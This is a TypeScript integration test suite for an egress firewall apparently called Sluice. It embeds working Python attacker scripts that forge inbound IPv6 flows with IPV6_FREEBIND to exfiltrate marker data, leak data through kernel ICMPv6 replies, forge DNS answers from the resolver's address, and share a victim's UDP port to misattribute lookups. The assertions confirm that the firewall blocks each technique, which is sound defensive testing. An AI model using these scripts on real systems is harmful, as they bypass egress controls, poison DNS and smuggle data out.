/**
 * Integration: an unprivileged local user forges the *inbound* half of a
 * flow (found by an internal red-team review). IPV6_FREEBIND needs no privilege, and with it a
 * socket may send from any IPv6 address; a datagram "from" a remote host S
 * to one of this host's own addresses is admitted (`fib daddr type local`)
 * and looped back, and conntrack now holds a flow that S seemingly began.
 * Everything this host sends back on it is `ct direction reply` (or `ct
 * state related`), which the output chain accepts before any rule.
 *
 * Sluice drops packets a user's socket sends from an address that is not
 * this host's (rule #spoofed-source), so no such flow can be forged. Each
 * test failed before that rule (and before query attribution required the
 * sender's own socket). Run: node --test dist/test/integration/forged-flows.test.js
 */
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, afterEach, before, describe, it } from 'node:test';
import { HOSTS, ROOT, World } from '../world/world.js';

const NOBODY = 65534;
const PY = '/usr/bin/python3';

/** Prints every packet seen arriving on the world's w0 that carries MARKER (any case), then exits. */
const SNIFFER = `
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("w0", 0)); s.settimeout(0.2)
end = time.time() + float(sys.argv[2]); print("ready", flush=True)
while time.time() < end:
    try: p, a = s.recvfrom(65535)
    except socket.timeout: continue
    if a[2] != socket.PACKET_OUTGOING and sys.argv[1].encode() in p.lower(): print("leaked", len(p), p.hex(), flush=True)
`;

/** As the attacker: forge S:sport -> LOCAL:lport, receive it, answer S on the "reply" direction. */
const UDP_REPLY = `
import socket, sys
S, sport, local, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4].encode()
d = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try: d.sendto(marker + b"-direct", (S, sport)); print("direct: sent")
except OSError as e: print("direct:", e.strerror)
b = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); b.bind((local, 0)); b.settimeout(2)
a = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); a.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
a.bind((S, sport))
try: a.sendto(b"seed", b.getsockname()[:2]); print("seed: sent")
except OSError as e: print("seed:", e.strerror)
try: print("seed from", b.recvfrom(100)[1][0])
except socket.timeout: print("seed: none arrived")
try: b.sendto(marker + b"-reply", (S, sport)); print("reply: sent")
except OSError as e: print("reply:", e.strerror)
try: print("echo:", b.recv(100).decode())
except socket.timeout: print("echo: none")
`;

/** As the attacker, with flows.replies restricted: let the kernel carry the data out in ICMPv6 (echo reply; port unreachable). */
const ICMP_REPLY = `
import socket, sys, struct
S, local, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()
e = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6); e.setsockopt(socket.IPPROTO_IPV6, 78, 1)
e.bind((S, 0))
try: e.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, 1) + marker + b"-echo", (local, 0)); print("echo request: sent")
except OSError as x: print("echo request:", x.strerror)
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.setsockopt(socket.IPPROTO_IPV6, 78, 1)
u.bind((S, 5000))
try: u.sendto(marker + b"-unreach", (local, 9)); print("datagram: sent")
except OSError as x: print("datagram:", x.strerror)
`;

/** As the attacker (audit mode): ask the host's IPv6 resolver, then answer in its place over loopback. */
const FORGE_DNS = `
import socket, struct, os, sys
resolver, local, name, addr = sys.argv[1:5]
qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", 1, 1)
qid = struct.unpack("!H", os.urandom(2))[0]
f = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); f.setsockopt(socket.IPPROTO_IPV6, 78, 1); f.bind((resolver, 53))
q = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); q.bind((local, 0))
q.sendto(struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + qn, (resolver, 53))
try: f.sendto(struct.pack("!6H", qid, 0x8180, 1, 1, 0, 0) + qn + b"\\xc0\\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(addr), q.getsockname()[:2]); print("forged: sent")
except OSError as x: print("forged:", x.strerror)
`;

/** As root (the victim): a UDP socket on the wildcard with SO_REUSEADDR, as avahi (5353) and resolved's LLMNR (5355) hold. */
const VICTIM = `
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 5355)); print("ready", flush=True); time.sleep(30)
`;

/** As the attacker: share the victim's port (SO_REUSEADDR has no owner check for UDP), ask a refused name, close at once. */
const ASK_AND_CLOSE = `
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 5355))
qn = b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[1].split(".")) + b"\\0" + struct.pack("!HH", 1, 1)
s.sendto(struct.pack("!6H", 4243, 0x0100, 1, 0, 0, 0) + qn, (sys.argv[2], 53)); s.close()
print("asked")
`;

describe('integration: forged inbound flows and framed lookups (IPV6_FREEBIND, SO_REUSEADDR, unprivileged)', () => {
  let w: World;
  let daemon: ChildProcess | undefined;

  const apply = async (yaml: string, name: string) => {
    const r = await w.sluice(['apply', w.policy(yaml, name)]);
    assert.equal(r.code, 0, r.stderr);
  };
  const attacker = async (script: string, args: string[]) => {
    const r = await w.exec([PY, '-c', script, ...args], { uid: NOBODY });
    assert.equal(r.code, 0, r.stderr);
    return r.stdout;
  };
  /** Runs `act` while a sniffer watches w0; returns the sniffer's "leaked" lines. */
  const sniff = async (marker: string, act: () => Promise<unknown>): Promise<string[]> => {
    const s = await w.spawnReady(w.world, [PY, '-c', SNIFFER, marker.toLowerCase(), '4']);
    let out = '';
    s.stdout?.on('data', (d: Buffer) => (out += d.toString()));
    const exited = new Promise((r) => s.once('exit', r));
    await act();
    await exited;
    return out.split('\n').filter((l) => l.startsWith('leaked'));
  };

  before(async () => {
    w = await World.create({ dns: true });
    // Debian's default (systemd's 50-default.conf) for the host; set here in the test's own namespace only.
    await w.exec(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647']);
  });
  afterEach(async () => {
    const d = daemon;
    daemon = undefined;
    if (d && d.exitCode === null) {
      const exited = new Promise((r) => d.once('exit', r));
      d.kill('SIGTERM');
      await exited;
    }
    await w.exec(['sysctl', '-q', '-w', 'net.ipv4.ip_unprivileged_port_start=1024']);
  });
  after(async () => {
    await w?.destroy();
  });

  it('enforce, flows.replies: any: a user cannot answer a flow it forged itself, to a destination the policy refuses it', async () => {
    await apply(`mode: enforce\nrules:\n  - name: api\n    to: [${HOSTS.api6}]\n    ports: [443/tcp]\n`, 'any.yaml');
    const out = await attacker(UDP_REPLY, [HOSTS.other6, '5000', HOSTS.client6, 'exfil-r2a']);
    assert.match(out, /direct: Operation not permitted/, 'the direct send is refused (the control)');
    assert.doesNotMatch(out, /echo: exfil-r2a-reply/, `the world's server got the data and echoed it:\n${out}`);
    assert.doesNotMatch(out, /seed from/, 'the forged packet never arrived');
    assert.match(out, /seed: Operation not permitted/, 'the forged packet is refused as it is sent');
  });

  it('enforce, flows.replies: [22/tcp]: no ICMPv6 the kernel sends about a forged flow carries the user\'s data out', async () => {
    await apply(`mode: enforce\nflows:\n  replies: [22/tcp]\nrules:\n  - name: api\n    to: [${HOSTS.api6}]\n    ports: [443/tcp]\n`, 'replies.yaml');
    const leaked = await sniff('exfil-r2b', () => attacker(ICMP_REPLY, [HOSTS.other6, HOSTS.client6, 'exfil-r2b']));
    assert.deepEqual(leaked, [], 'echo reply (ICMP replies rule) and port unreachable (ct state related) carried it to other6');
  });

  it('audit, ip_unprivileged_port_start=0 (as Docker sets it): a reply forged "from" the IPv6 resolver teaches the daemon nothing', async () => {
    rmSync(join(w.stateDir, 'learned.json'), { force: true });
    await apply(`mode: audit\ndns:\n  upstreams: [${HOSTS.dns4}, ${HOSTS.dns6}]\nrules:\n  - name: api\n    to: [api.sluice.test]\n    ports: [443/tcp]\n`, 'audit.yaml');
    daemon = await w.spawnReady(w.client, [process.execPath, join(ROOT, 'bin/sluice'), 'daemon', '--metrics', 'off'], { env: w.env(), readyText: 'running' });
    await w.exec(['sysctl', '-q', '-w', 'net.ipv4.ip_unprivileged_port_start=0']);
    await attacker(FORGE_DNS, [HOSTS.dns6, HOSTS.client6, 'api.sluice.test', HOSTS.other4]);
    await sleep(1000);
    const set = await w.nft(['list', 'set', 'inet', 'sluice', 'r_api_d4']);
    assert.doesNotMatch(set, new RegExp(HOSTS.other4.replace(/\./g, '\\.')), `the forged address opened for rule api:\n${set}`);
    const dns = await w.sluice(['dns', '--limit', '5']);
    assert.doesNotMatch(dns.stdout, new RegExp(`api\\.sluice\\.test.*${HOSTS.other4.replace(/\./g, '\\.')}`), `recorded as the name's answer:\n${dns.stdout}`);
  });

  it("enforce: a user's refused DNS lookup is never recorded as another user's process asking", async () => {
    await apply(`mode: enforce\ndns:\n  upstreams: [${HOSTS.dns4}]\nrules:\n  - name: api\n    to: [api.sluice.test]\n    ports: [443/tcp]\n`, 'names.yaml');
    daemon = await w.spawnReady(w.client, [process.execPath, join(ROOT, 'bin/sluice'), 'daemon', '--metrics', 'off'], { env: w.env(), readyText: 'running' });
    const victim = await w.spawnReady(w.client, [PY, '-c', VICTIM]);
    try {
      for (let i = 0; i < 3; i++) {
        await attacker(ASK_AND_CLOSE, [`secret-${i}.evil.test`, HOSTS.dns4]);
        await sleep(300);
      }
      await sleep(500);
      const r = await w.sluiceJson<{ name: string; process?: { pid: number; uid: number } }[]>(['dns', '--limit', '20']);
      const asked = r.json.filter((e) => /^secret-\d\.evil\.test$/.test(e.name));
      assert.equal(asked.length, 3, JSON.stringify(r.json));
      const framed = asked.filter((e) => e.process && e.process.uid !== NOBODY);
      assert.deepEqual(framed, [], `uid 65534's lookups recorded as root's process (pid ${victim.pid}'s child)`);
    } finally {
      victim.kill('SIGKILL');
    }
  });
});
